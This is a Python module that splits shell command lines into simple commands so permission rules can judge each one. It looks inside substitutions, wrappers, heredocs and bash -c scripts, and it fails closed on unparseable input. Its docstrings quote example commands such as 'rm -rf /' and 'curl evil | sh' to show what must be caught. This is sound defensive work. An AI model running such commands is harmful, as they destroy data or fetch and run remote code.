"""Split a shell command line into the simple commands a scope rule must judge.

A rule like ``Bash(git status)`` must not allow ``git status && rm -rf /``, and
``echo "$(curl evil | sh)"`` hides two more commands inside a quoted word. So we lex with
the standard library's POSIX shell lexer (``shlex`` with punctuation characters, which
keeps the hook's import path lean) and split on every control operator, and we look inside
``$(...)`` and backticks recursively.

Anything we cannot lex (an unbalanced quote, say) is reported as unparseable: the caller
must then never *allow* the command on a rule, only ask or deny — fail closed.
"""

from __future__ import annotations

import re
import shlex

#: Tokens that end one simple command and start another.
SEPARATORS = frozenset(
    {"&&", "||", ";", "|", "&", "|&", ";;", ";&", ";;&", "\n", "(", ")", "{", "}"}
)
_PUNCTUATION = "();<>|&\n"
_HEREDOC = re.compile(r"<<-?\s*(['\"]?)([A-Za-z_][A-Za-z0-9_]*)\1")
_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_MAX_DEPTH = 8
#: Commands that run their arguments as another command: that command is judged too.
_WRAPPERS = frozenset({
    "sudo", "doas", "env", "nice", "nohup", "time", "timeout", "xargs", "command", "exec",
    "builtin", "stdbuf", "ionice", "setsid", "chrt", "taskset", "unbuffer", "flock",
})  # fmt: skip
#: Shells whose ``-c SCRIPT`` is parsed as a command line of its own.
_SHELLS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox"})
#: Options of a wrapper that take a value (``sudo -u root rm`` runs ``rm``, not ``root``).
_WRAPPER_ARGS: dict[str, frozenset[str]] = {
    "sudo": frozenset({"-u", "-g", "-C", "-p", "-r", "-t", "-U", "-D", "-h", "-T"}),
    "doas": frozenset({"-u", "-C"}),
    "env": frozenset({"-u", "-C", "-S", "--unset", "--chdir"}),
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "-n", "-p"}),
    "timeout": frozenset({"-s", "-k", "--signal", "--kill-after"}),
    "xargs": frozenset({"-n", "-I", "-P", "-L", "-s", "-d", "-a", "-E", "-i"}),
    "flock": frozenset({"-w", "-E", "-c"}),
    "stdbuf": frozenset({"-i", "-o", "-e"}),
}
_DURATION = re.compile(r"^\d+(?:\.\d+)?[smhd]?$")


class ShellParseError(ValueError):
    """The command line could not be lexed; treat it as never auto-allowable."""


def _strip_heredoc_bodies(command: str) -> str:
    """Drop here-document bodies: they are data, not commands (and often hold apostrophes)."""
    lines = command.split("\n")
    out: list[str] = []
    i = 0
    while i < len(lines):
        line = lines[i]
        out.append(line)
        delimiters = [m.group(2) for m in _HEREDOC.finditer(line)]
        i += 1
        for delimiter in delimiters:
            while i < len(lines) and lines[i].strip() != delimiter:
                i += 1
            i += 1  # the delimiter line itself
    return "\n".join(out)


def _strip_comments(command: str) -> str:
    """Remove ``# ...`` comments that the shell itself would ignore, keeping the newline.

    Done on the raw text with a quote-aware scan, because after quote removal an unquoted
    ``# rest`` and a quoted ``"#" rest`` look alike, and treating the second as a comment
    would hide ``rest`` from deny rules.
    """
    out: list[str] = []
    quote = ""
    i, n = 0, len(command)
    while i < n:
        ch = command[i]
        if quote:
            out.append(ch)
            if ch == "\\" and quote == '"' and i + 1 < n:
                out.append(command[i + 1])
                i += 1
            elif ch == quote:
                quote = ""
        elif ch == "\\" and i + 1 < n:
            out.append(ch + command[i + 1])
            i += 1
        elif ch in "'\"":
            quote = ch
            out.append(ch)
        elif ch == "#" and (i == 0 or command[i - 1] in " \t\n;&|()"):
            end = command.find("\n", i)
            i = n if end < 0 else end
            continue
        else:
            out.append(ch)
        i += 1
    return "".join(out)


def _substitutions(word: str) -> list[str]:
    """Return the bodies of ``$(...)`` and backtick substitutions inside one word."""
    found: list[str] = []
    i = 0
    while i < len(word):
        if word.startswith("$(", i) and not word.startswith("$((", i):
            depth, j = 1, i + 2
            while j < len(word) and depth:
                if word[j] == "(":
                    depth += 1
                elif word[j] == ")":
                    depth -= 1
                j += 1
            found.append(word[i + 2 : j - 1] if depth == 0 else word[i + 2 :])
            i = j
        elif word[i] == "`":
            j = word.find("`", i + 1)
            found.append(word[i + 1 :] if j < 0 else word[i + 1 : j])
            i = len(word) if j < 0 else j + 1
        else:
            i += 1
    return found


def _lex(command: str) -> list[str]:
    lexer = shlex.shlex(command, posix=True, punctuation_chars=_PUNCTUATION)
    lexer.whitespace = " \t\r"
    lexer.whitespace_split = True
    lexer.commenters = ""  # handled below: shlex's comments would swallow the newline
    try:
        return list(lexer)
    except ValueError as exc:
        raise ShellParseError(f"cannot parse shell command: {exc}") from None


def simple_commands(command: str, _depth: int = 0) -> list[str]:
    """Return every simple command in ``command`` as normalised text (words joined by one space).

    Quotes are removed (so ``git "push" --force`` is judged as ``git push --force``), leading
    ``VAR=value`` assignments are dropped, and substituted commands are listed after the
    command that contains them.
    """
    if _depth > _MAX_DEPTH:
        raise ShellParseError("command substitutions nested too deeply")
    tokens = _lex(_strip_comments(_strip_heredoc_bodies(command)))
    commands: list[str] = []
    nested: list[str] = []
    words: list[str] = []

    def flush() -> None:
        while words and _ASSIGNMENT.match(words[0]) and len(words) > 1:
            words.pop(0)
        if words:
            commands.append(" ".join(words))
            for inner in _unwrapped(words):
                commands.append(" ".join(inner))
            nested.extend(_scripts(words, _depth))
        words.clear()

    for token in tokens:
        if token in SEPARATORS or (
            # '<(' and '>(' (process substitution), '((': grouped punctuation opening a command
            ("(" in token or ")" in token) and not token.strip(_PUNCTUATION)
        ):
            flush()
            continue
        words.append(token)
        if "$(" in token or "`" in token:
            for body in _substitutions(token):
                nested.extend(simple_commands(body, _depth + 1))
    flush()
    return commands + nested


def _name(word: str) -> str:
    return word.rsplit("/", 1)[-1]


def _unwrapped(words: list[str]) -> list[list[str]]:
    """``sudo rm -rf x`` also runs ``rm -rf x``: return each command a wrapper runs.

    These are *extra* parts: a deny rule on ``rm`` catches them, and an allow needs every
    part allowed, so wrapping never turns a refused command into an allowed one.
    """
    found: list[list[str]] = []
    rest = words
    while rest and _name(rest[0]) in _WRAPPERS:
        wrapper, rest = _name(rest[0]), rest[1:]
        takes_value = _WRAPPER_ARGS.get(wrapper, frozenset())
        while rest and (
            rest[0].startswith("-")
            or _ASSIGNMENT.match(rest[0])
            or (wrapper == "timeout" and _DURATION.match(rest[0]))
        ):
            rest = rest[2:] if rest[0] in takes_value else rest[1:]
        if rest:
            found.append(rest)
    # find -exec / -execdir / -ok CMD ... {} ;  runs CMD on every match.
    if words and _name(words[0]) == "find":
        for i, word in enumerate(words):
            if word in ("-exec", "-execdir", "-ok", "-okdir") and i + 1 < len(words):
                command = []
                for arg in words[i + 1 :]:
                    if arg in (";", "+"):
                        break
                    command.append(arg)
                if command:
                    found.append(command)
    return found


def _scripts(words: list[str], depth: int) -> list[str]:
    """Commands hidden in a string another program runs: ``bash -c 'SCRIPT'``, ``eval ...``.

    A script that cannot be parsed raises, which makes the whole command unparseable (never
    auto-allowed) rather than silently unjudged.
    """
    for start in range(len(words)):
        name = _name(words[start])
        if name == "eval" and start + 1 < len(words):
            return simple_commands(" ".join(words[start + 1 :]), depth + 1)
        if name in _SHELLS:
            args = words[start + 1 :]
            for i, arg in enumerate(args):
                if not arg.startswith("-"):
                    break
                if "c" in arg[1:] and not arg.startswith("--") and i + 1 < len(args):
                    return simple_commands(args[i + 1], depth + 1)
            return []
        if name not in _WRAPPERS and not _ASSIGNMENT.match(words[start]):
            return []
    return []
